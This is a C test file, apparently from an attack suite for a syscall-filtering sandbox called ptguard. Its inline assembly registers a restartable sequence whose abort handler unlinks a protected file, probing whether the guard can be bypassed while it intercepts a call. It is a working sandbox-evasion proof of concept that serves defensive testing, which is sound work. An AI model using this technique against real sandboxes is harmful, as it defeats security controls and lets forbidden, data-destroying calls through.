// SPDX-License-Identifier: Apache-2.0
//
// A16, D8: the first judged call of an address space is made within a restartable sequence
// (rseq(2)), so the kernel sends the task to the abort handler while ptguard brings its window
// in, whatever signals are blocked. There another call is made.
// cc: -static
#include "attack.h"
#include <sys/rseq.h>

static const char prey[] = "denied/file", twin[] = "secreT";

// sequence makes a call in a restartable sequence and, if that is aborted, another one.
static void sequence(volatile struct rseq *area)
{
	__asm__ volatile(".pushsection .data\n"
			 ".balign 32\n"
			 "9:\n"
			 ".long 0, 0\n"
			 ".quad 1f, 2f - 1f, 4f\n"
			 ".popsection\n"
			 "leaq 9b(%%rip), %%rax\n"
			 "movq %%rax, 8(%[area])\n"
			 "movl %[open], %%eax\n"
			 "movq %[twin], %%rdi\n"
			 "xorl %%esi, %%esi\n"
			 "1:\n"
			 "syscall\n"
			 "2:\n"
			 "jmp 5f\n"
			 ".long 0x53053053\n" // RSEQ_SIG
			 "4:\n"
			 "movl %[unlink], %%eax\n"
			 "movq %[prey], %%rdi\n"
			 "syscall\n"
			 "5:\n"
			 :
			 : [area] "r"(area), [open] "i"(SYS_open), [unlink] "i"(SYS_unlink), [twin] "r"(twin), [prey] "r"(prey)
			 : "rax", "rdi", "rsi", "rcx", "r11", "memory", "cc");
}

int main(void)
{
	for (int i = 0; i < 20; i++) {
		pid_t pid = fork();
		if (!pid) {
			if (__rseq_size == 0)
				_exit(9);
			sequence((struct rseq *)((char *)__builtin_thread_pointer() + __rseq_offset));
			syscall(SYS_unlink, prey); // without ptguard nothing aborts so short a sequence
			_exit(0);
		}
		int st;
		must(pid, "fork");
		waitpid(pid, &st, 0);
		if (WIFEXITED(st) && WEXITSTATUS(st) == 9)
			finish("SETUP", "no rseq");
	}
	if (access(prey, F_OK) < 0 && errno == ENOENT)
		succeeded();
	finish("REFUSED", "the file is there");
}
